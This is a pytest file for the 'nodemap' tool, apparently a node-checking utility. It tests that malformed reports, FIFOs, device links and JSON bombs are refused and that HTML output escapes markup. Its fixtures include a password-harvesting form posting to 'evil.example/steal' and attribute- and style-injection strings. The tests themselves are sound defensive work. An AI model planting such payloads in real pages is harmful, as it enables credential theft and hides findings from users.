"""Issue 26, causes 3 and 4 and the malformed documents of its poor list:
a saved check document, bench result file, watch timeline or fleet folder
is read through one checked reader (a FIFO is refused, not waited on; a
link to a device is not read whole), its fields and enumerations checked
at load (one line naming the file and the field), and whatever text
reaches a page is escaped."""

from __future__ import annotations

import json
import os

import pytest

import check_synth as syn
from hostile import env, nodemap, refused
from nodemap.check import expectations
from nodemap.check.document import CheckDoc

FORM = "<form action='https://evil.example/steal' method='post'><input type='password' name='pw'></form>"


def _doc() -> dict:
    """A check document with a failing GPU: figures, findings and a check."""
    from nodemap.check.inventory import Check, Skipped

    d = CheckDoc(level="quick", topology=None, expectations=expectations.shipped(),
                 results=[syn.hbm({0: 1400.0, 1: 900.0, 2: 1400.0})], host="n1",
                 checks=[Check("inventory/x", "a check", "1", "1", "pass", "equal")],
                 skipped=[Skipped("nccl", "no GPUs")])
    d.rejudge()
    assert d.findings
    return json.loads(d.to_json())


def _write(tmp_path, d: dict, name: str = "check.json") -> str:
    path = tmp_path / name
    path.write_text(json.dumps(d))
    return str(path)


def test_markup_in_text_fields_is_escaped_and_no_form_renders(tmp_path):
    pytest.importorskip("matplotlib")
    d = _doc()
    d["host"] = FORM
    d["findings"][0]["text"] = FORM
    d["findings"][0]["evidence"] = "<style>.fail{display:none}</style>"
    d["figures"][0]["label"] = FORM
    d["checks"][0]["value"] = FORM
    d["skipped"][0]["reason"] = FORM
    d["command"] = FORM
    d["environment"] = {"kernel": FORM, "variables": {FORM: FORM}}
    out = tmp_path / "r.html"
    r = nodemap("report", _write(tmp_path, d), "--html", str(out), env_=env(tmp_path))
    assert r.returncode in (0, 1), r.stderr
    page = out.read_text()
    for raw in ("<form", "<input", "<style>.fail"):
        assert raw not in page, raw
    assert "&lt;form action=" in page and "&lt;input type=&#x27;password&#x27;" in page
    assert "form-action 'none'" in page  # and no form could post anywhere if one slipped through


def test_a_verdict_that_is_markup_is_escaped_even_past_the_reader():
    """The page escapes what the reader would refuse: a verdict goes into a
    class attribute and a badge (it was copied raw, hiding the findings)."""
    import msgspec

    from nodemap.check.document import from_dict
    from nodemap.report import html

    doc = from_dict(_doc())
    doc.findings[0] = msgspec.structs.replace(doc.findings[0], verdict="fail'><style>li{display:none}</style>" + FORM)
    page = html.findings(doc)
    assert "<style>" not in page and "<form" not in page and "&lt;form" in page


@pytest.mark.parametrize("where, field, value", [
    ("findings", "verdict", "<span style='display:none'>"),
    ("findings", "cause", FORM),
    ("figures", "verdict", "fail' onmouseover='x"),
    ("figures", "area", "<b>GPU</b>"),
    ("checks", "verdict", "ok"),
])
def test_enumerations_are_validated_at_load(tmp_path, where, field, value):
    d = _doc()
    d[where][0][field] = value
    out = tmp_path / "r.html"
    r = nodemap("report", _write(tmp_path, d), "--html", str(out), env_=env(tmp_path))
    refused(r, "check.json", f"{where}[0].{field}", "not one of")
    assert not out.exists()


@pytest.mark.parametrize("change, words", [
    (lambda d: d["figures"][0].update(value="fast"), ["figures[0].value", "not a number"]),
    (lambda d: d["figures"][0].pop("key"), ["figures[0].key is missing"]),
    (lambda d: d.update(figures={"a": 1}), ["field figures", "not a list"]),
    (lambda d: d["findings"].append(5), ["findings[", "not an object"]),
    (lambda d: d["results"][0]["results"][0].update(stats=[1, 2]), ["results[0].results[0].stats", "not an object"]),
    (lambda d: d["results"][0]["results"][0]["stats"].pop("best"), ["stats.best is missing"]),
    (lambda d: d["skipped"][0].update(reason=None), ["skipped[0].reason", "not text"]),
    (lambda d: d.update(complete="yes"), ["field complete", "true or false"]),
])
def test_wrong_types_name_the_field(tmp_path, change, words):
    d = _doc()
    change(d)
    refused(nodemap("report", _write(tmp_path, d), env_=env(tmp_path)), "check.json", *words)


def _bench(tmp_path) -> dict:
    return json.loads(syn.hbm({0: 1400.0}).to_json())


@pytest.mark.parametrize("data, words", [
    (lambda tp: json.dumps({k: v for k, v in _bench(tp).items() if k != "results"}).encode(),
     ["field results is missing"]),
    (lambda tp: json.dumps({**_bench(tp), "results": [{"benchmark": "gpu"}]}).encode(), ["results[0].metric"]),
    (lambda tp: b"[" * 100_000 + b"]" * 100_000, ["nested too deep"]),  # a JSON bomb: RecursionError
    (lambda tp: b'{"a": ' + b"9" * 5000 + b"}", ["4300 digits"]),
    (lambda tp: b'{"schema": "nodemap.check/1", "host": "caf\xe9"}', ["byte 0xe9 is not UTF-8"]),
    (lambda tp: b"[1, 2]", ["a JSON object is expected"]),
])
def test_malformed_files_given_to_report(tmp_path, data, words):
    path = tmp_path / "b.json"
    path.write_bytes(data(tmp_path))
    refused(nodemap("report", str(path), env_=env(tmp_path)), "b.json", *words)


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_report_of_a_fifo_or_device(tmp_path, kind):
    path = tmp_path / "check.json"
    if kind == "fifo":
        os.mkfifo(path)  # once a hang
    else:
        os.symlink("/dev/zero", path)  # once 3.8 GB read into a MemoryError
    r = nodemap("report", str(path), env_=env(tmp_path))
    refused(r, "check.json", "FIFO, device or socket")
    assert r.seconds < 5


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_fleet_from_a_folder_with_a_fifo_or_device(tmp_path, kind):
    folder = tmp_path / "from"
    folder.mkdir()
    path = folder / "x.json"
    os.mkfifo(path) if kind == "fifo" else os.symlink("/dev/zero", path)
    r = nodemap("check", "--fleet", "--from", str(folder), "-o", str(tmp_path / "out"), env_=env(tmp_path))
    refused(r, "x.json", "FIFO, device or socket")


@pytest.mark.parametrize("line, words", [
    (b"[1, 2]", ["nodes.jsonl, line 2", "not a JSON object"]),
    (b"[" * 100_000, ["nodes.jsonl, line 2", "nested too deep"]),
    (b'{"host": "\xff"}', ["nodes.jsonl, line 2", "not UTF-8"]),
])
def test_damaged_lines_of_nodes_jsonl(tmp_path, line, words):
    folder = tmp_path / "from"
    folder.mkdir()
    (folder / "nodes.jsonl").write_bytes(b'{"schema": "x"}\n' + line + b"\n")
    r = nodemap("check", "--fleet", "--from", str(folder), "-o", str(tmp_path / "out"), env_=env(tmp_path))
    refused(r, *words)


def _timeline(path, extra: bytes = b"") -> None:
    header = {"schema": "nodemap.watch/1", "host": "n1", "job": "1", "rank": 0, "start": 1.0, "pid": 5}
    path.write_bytes(json.dumps(header).encode() + b"\n[0.0, 100, 1000, [], [], []]\n[1.0, 200, 1000, [], [], []]\n"
                     + extra)


def test_a_watch_folder_with_a_fifo_a_device_and_a_deep_line(tmp_path):
    folder = tmp_path / "w"
    folder.mkdir()
    _timeline(folder / "n1-0.watch", b"[" * 100_000)  # a 100,000-deep last line, cut: torn, not a traceback
    os.mkfifo(folder / "n1-1.watch")
    os.symlink("/dev/zero", folder / "n1-2.watch")
    r = nodemap("report", str(folder), "--json", env_=env(tmp_path))
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    assert r.seconds < 5
    jobs = json.loads(r.stdout)["jobs"]
    assert len(jobs) == 1 and len(jobs[0]["series"]) == 1
    _timeline(folder / "n1-0.watch", b"[" * 100_000 + b"\n[2.0, 200, 1000, [], [], []]\n")  # a whole line: damage
    refused(nodemap("report", str(folder / "n1-0.watch"), env_=env(tmp_path)), "n1-0.watch, line 4: field [0] is array")


def test_a_watch_file_that_is_a_fifo(tmp_path):
    os.mkfifo(tmp_path / "a.watch")
    refused(nodemap("report", str(tmp_path / "a.watch"), env_=env(tmp_path)), "a.watch", "FIFO, device or socket")
